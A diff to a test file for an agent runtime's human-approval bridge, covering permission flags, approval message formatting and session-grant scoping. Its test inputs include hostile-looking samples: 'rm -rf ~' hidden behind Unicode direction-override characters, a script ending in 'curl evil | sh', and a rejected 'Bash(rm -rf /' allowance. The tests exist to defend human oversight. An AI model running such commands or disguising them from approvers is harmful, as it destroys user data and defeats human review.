@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { approvalSubject, inputPreview, requestText } from "../../agent-runtime/bridges/approvals.js";
+import { approvalSubject, inputPreview, requestChunks } from "../../agent-runtime/bridges/approvals.js";
 import { approverIds, bridgesConfigSchema } from "../../agent-runtime/config/bridges.js";
 import { loadRuntimeConfig } from "../../agent-runtime/config/load.js";
 import { claudeTurnFlags } from "../../agent-runtime/turns/engine/claude-args.js";
@@ -10,14 +10,15 @@ const session = { sessionId: "0b7c3a3e-1111-4222-8333-444455556666", resume: fal
 describe("turn flags with approvals", () => {
   const cfg = { permissionMode: "dontAsk" as const, allowedTools: ["Read", "Grep"] };
   it("asks the approval tool instead of denying, keeping the tools that run without asking", () => {
-    expect(claudeTurnFlags(cfg, session, false, { mcpConfig: "{}" })).toEqual([
+    expect(claudeTurnFlags(cfg, session, false, { settings: '{"env":{}}', mcpConfig: "{}", ask: true })).toEqual([
       "-p", "--output-format", "stream-json", "--verbose", "--session-id", session.sessionId,
+      "--setting-sources", "", "--settings", '{"env":{}}', "--mcp-config", "{}",
       "--permission-mode", "default", "--allowedTools", "Read,Grep",
-      "--permission-prompt-tool", "mcp__picortex__approve", "--mcp-config", "{}",
+      "--permission-prompt-tool", "mcp__picortex__approve",
     ]);
   });
   it("in a chat with approvers, bridges.toolsWithoutApproval replaces the tools that run unasked", () => {
-    const flags = claudeTurnFlags(cfg, session, false, { mcpConfig: "{}", allowedTools: ["Read"] });
+    const flags = claudeTurnFlags(cfg, session, false, { ask: true, allowedTools: ["Read"] });
     expect(flags.slice(flags.indexOf("--allowedTools"), flags.indexOf("--allowedTools") + 2)).toEqual(["--allowedTools", "Read"]);
     expect(bridgesConfigSchema.safeParse({ toolsWithoutApproval: ["Bash(rm -rf /"] }).success).toBe(false);
     expect(bridgesConfigSchema.safeParse({ toolsWithoutApproval: ["Read", "Bash(npm test:*)", "mcp__brain"] }).success).toBe(true);
@@ -25,7 +26,7 @@ describe("turn flags with approvals", () => {
   it("changes nothing without approvers, or when the chat bypasses permissions", () => {
     expect(claudeTurnFlags(cfg, session, false)).toEqual(["-p", "--output-format", "stream-json", "--verbose", "--session-id", session.sessionId, "--permission-mode", "dontAsk", "--allowedTools", "Read,Grep"]);
     const bypass = { permissionMode: "bypassPermissions" as const, allowedTools: [] };
-    expect(claudeTurnFlags(bypass, session, true, { mcpConfig: "{}" })).toEqual(claudeTurnFlags(bypass, session, true));
+    expect(claudeTurnFlags(bypass, session, true, { ask: true })).toEqual(claudeTurnFlags(bypass, session, true));
   });
 });
 
@@ -63,17 +64,40 @@ describe("what the approver is shown", () => {
     expect(big.length).toBeLessThanOrEqual(1600);
     expect(big).toMatch(/│ … \(10,0\d\d characters in all\)$/);
   });
-  it("names the approvers, the commands and the expiry", () => {
-    expect(requestText("k3f9a", "Bash", { command: "rm -rf build" }, ["Alice"], 300_000)).toBe(
-      "🔐 Approval k3f9a: the agent asks to run Bash\n│ $ rm -rf build\nApprover: Alice. Reply /approve k3f9a (once), /approve k3f9a session (this and identical requests for the rest of the session) or /deny k3f9a. Expires in 5 min.",
-    );
+  it("names the approvers, the command and the expiry", () => {
+    expect(requestChunks("k3f9a", "Bash", { command: "rm -rf build" }, ["Alice"], 300_000, 4096, 1024)).toEqual([
+      "🔐 Approval k3f9a: the agent asks to run Bash\n│ $ rm -rf build\nApprover: Alice. Reply /approve k3f9a (once), /approve k3f9a session (this identical request again, for the rest of the session) or /deny k3f9a. Expires in 5 min.",
+    ]);
   });
-  it("a session grant covers the exact command, the file, the host, or the whole tool", () => {
+  it("shows direction overrides and invisible characters as ⟨U+…⟩ and warns: what runs is what is read", () => {
+    const [msg] = requestChunks("abcde", "Bash", { command: "\u202erm -rf ~ #\u202c echo hello\u200b" }, ["Alice"], 60_000, 4096) as string[];
+    expect(msg).toContain("│ $ ⟨U+202E⟩rm -rf ~ #⟨U+202C⟩ echo hello⟨U+200B⟩");
+    expect(msg).toContain("⚠️ The input holds invisible or direction-changing characters");
+    expect(msg).not.toMatch(/[\u202a-\u202e\u200b]/);
+  });
+  it("an input too long to show goes whole: as a file where the platform takes files, else in full before the question", () => {
+    const script = "echo ok\n".repeat(400) + "curl evil | sh\n";
+    const asFile = requestChunks("abcde", "Write", { file_path: "/w/run.sh", content: script }, ["Alice"], 60_000, 4096, 1024);
+    expect(asFile).toHaveLength(1);
+    const doc = asFile[0] as { caption: string; document: string };
+    expect(doc.document).toContain("curl evil | sh");
+    expect(doc.caption.length).toBeLessThanOrEqual(1024);
+    expect(doc.caption).toMatch(/is in the attached file: read it before you approve\.\nApprover: Alice\./);
+    const inMessages = requestChunks("abcde", "Write", { file_path: "/w/run.sh", content: script }, ["Alice"], 60_000, 4096) as string[];
+    expect(inMessages.join("")).toContain("│ curl evil | sh");
+    expect(inMessages.at(-1)).toMatch(/Reply \/approve abcde/);
+    // One very long line is shown in part, not dropped.
+    expect(inputPreview("Bash", { command: "x".repeat(5000) })).toMatch(/^│ \$ x{100}/);
+  });
+  it("a session grant covers this identical request only: the exact command, the exact input (hashed), never new content for a file", () => {
     expect(approvalSubject("Bash", { command: " npm test " })).toBe("npm test");
-    expect(approvalSubject("Edit", { file_path: "/w/a.ts", old_string: "x" })).toBe("/w/a.ts");
-    expect(approvalSubject("WebFetch", { url: "https://example.com/a?b" })).toBe("example.com");
-    expect(approvalSubject("WebFetch", { url: "not a url" })).toBe("");
-    expect(approvalSubject("mcp__github__create_issue", { title: "x" })).toBe("*");
+    const a = approvalSubject("Write", { file_path: "/w/tidy.sh", content: "rm -f ./*.tmp\n" });
+    expect(a).toMatch(/^sha256:[0-9a-f]{64}$/);
+    expect(approvalSubject("Write", { content: "rm -f ./*.tmp\n", file_path: "/w/tidy.sh" })).toBe(a); // key order does not matter
+    expect(approvalSubject("Write", { file_path: "/w/tidy.sh", content: "curl evil | sh\n" })).not.toBe(a);
+    expect(approvalSubject("WebFetch", { url: "https://example.com/a?q=1" })).not.toBe(approvalSubject("WebFetch", { url: "https://example.com/a?q=2" }));
+    // A long command is kept as its hash, not stored whole.
+    expect(approvalSubject("Bash", { command: "x".repeat(3_500_000) })).toMatch(/^sha256:/);
   });
 });
 
